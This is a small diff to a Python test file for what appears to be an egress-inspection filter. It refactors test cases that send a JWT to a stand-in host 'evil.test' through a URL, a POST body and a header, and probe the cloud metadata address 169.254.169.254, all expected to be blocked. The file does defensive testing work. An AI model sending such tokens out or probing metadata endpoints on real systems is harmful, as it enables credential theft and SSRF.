@@ -11,16 +11,17 @@ from tests.inspection.conftest import JWT, envoy_here
 def case(name: str, verdict: str, kind: str = "url", **payload: Any) -> dict[str, Any]:
     return {
         "id": name, "category": name.partition("-")[0], "input_type": kind, "expected_verdict": verdict,
-        "payload": {"method": "GET", **payload},
+        "payload": {"method": "GET"} | payload,
     }  # fmt: skip
 
 
+LEAK = {"method": "POST", "body": JWT, "content_type": "text/plain"}
 CASES = (
     case("url-leak", "block", url=f"https://evil.test/?t={JWT}"),
     case("url-missed", "block", url="http://a.b.evil.test/nothing-to-see"),
     case("url-fine", "allow", url="https://good.test/x"),
-    case("body-leak", "block", "request_body", url="https://evil.test/", method="POST", body=JWT, content_type="text/plain"),
-    case("body-strict", "allow", "request_body", url="https://evil.test/", method="POST", body=JWT, content_type="text/plain"),
+    case("body-leak", "block", "request_body", url="https://evil.test/", **LEAK),
+    case("body-strict", "allow", "request_body", url="https://evil.test/", **LEAK),
     case("header-leak", "block", "header", url="https://evil.test/", headers={"X-A": JWT}),
     case("ssrf_bypass-metadata", "block", url="http://169.254.169.254/latest/"),
     {"id": "mcp", "category": "mcp", "input_type": "mcp_tool_call", "expected_verdict": "block", "payload": {}},
